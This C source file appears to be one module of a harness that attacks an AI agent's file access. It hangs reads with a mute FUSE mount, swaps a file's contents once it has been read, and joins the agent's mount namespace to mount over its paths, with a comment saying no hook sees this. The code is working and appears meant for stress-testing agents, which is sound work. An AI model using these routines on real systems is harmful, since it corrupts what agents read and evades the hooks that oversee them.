/* SPDX-License-Identifier: GPL-2.0-or-later */
/* reads.c - attacks on what the agent reads and writes: a file system that does not answer, files that change. */
#include "attack.h"

#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define REQUEST_MAX (1u << 17)
#define HOLD_SECONDS 60

struct init_answer {
	struct fuse_out_header header;
	struct fuse_init_out out;
};

/* It says hello to the kernel, and nothing else any more. */
static int serve(int fd)
{
	static char request[REQUEST_MAX];
	const struct fuse_in_header *in = (const void *)request;

	for (;;) {
		struct init_answer answer = { .header.len = sizeof(answer) };

		if (read(fd, request, sizeof(request)) < 0)
			return -errno;
		if (in->opcode != FUSE_INIT)
			continue;
		answer.header.unique = in->unique;
		answer.out.major = FUSE_KERNEL_VERSION;
		answer.out.minor = FUSE_KERNEL_MINOR_VERSION;
		answer.out.max_write = REQUEST_MAX / 2;
		if (write(fd, &answer, sizeof(answer)) < 0)
			return -errno;
	}
}

/* fuse-hold PATH: over a file or a directory; a process that stays there serves it for a while */
static int fuse_hold(int argc, char **argv)
{
	int fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	char options[96];
	struct stat st;

	if (argc < 1)
		return -EINVAL;
	if (fd < 0)
		return NOTHING;
	if (stat(argv[0], &st) < 0)
		return -errno;
	(void)snprintf(options, sizeof(options), "fd=%d,rootmode=%o,user_id=0,group_id=0", fd, st.st_mode & S_IFMT);
	if (mount("fuse", argv[0], "fuse", 0, options) < 0)
		return -errno;
	if (fork())
		return 0;
	(void)close(STDOUT_FILENO);
	(void)close(STDERR_FILENO);
	(void)alarm(HOLD_SECONDS);
	_exit(serve(fd) ? 1 : 0);
}

/* swap-read FILE OTHER: when somebody has read the file, what is in it becomes what is in the other one */
static int swap_read(int argc, char **argv)
{
	int watch = inotify_init1(IN_CLOEXEC), fd;
	char event[4096], text[65536];
	ssize_t n;

	if (argc < 2)
		return -EINVAL;
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, sizeof(text));
	if (n < 0 || inotify_add_watch(watch, argv[0], IN_CLOSE_NOWRITE) < 0)
		return -errno;
	printf("watching\n");
	(void)fflush(stdout);
	if (read(watch, event, sizeof(event)) < 0)
		return -errno;
	fd = open(argv[0], O_WRONLY | O_TRUNC | O_CLOEXEC);
	return fd < 0 ? -errno : result(write(fd, text, (size_t)n));
}

/* agent-peer PATH: mounts over what the agent sees, from a namespace whose mounts are peers of the agent's */
static int agent_peer(int argc, char **argv)
{
	struct mount_attr shared = { .propagation = MS_SHARED };
	pid_t pid = find_agent();
	int fd = pid ? (int)syscall(SYS_pidfd_open, pid, 0) : -1;

	if (argc < 1)
		return -EINVAL;
	if (fd < 0)
		return NOTHING;
	if (setns(fd, CLONE_NEWNS) < 0)
		return -errno;
	/* no hook sees that */
	(void)syscall(SYS_mount_setattr, AT_FDCWD, "/", AT_RECURSIVE, &shared, sizeof(shared));
	if (unshare(CLONE_NEWNS) < 0)
		return -errno;
	return result(mount("x", argv[0], "tmpfs", 0, NULL));
}

const struct attack attacks_reads[] = {
	{ "agent-peer", agent_peer, "PATH: mount over it where that reaches the agent" },
	{ "fuse-hold", fuse_hold, "PATH: a file system over it that does not answer" },
	{ "swap-read", swap_read, "FILE OTHER: other contents as soon as somebody has read it" },
	{ NULL, NULL, NULL },
};
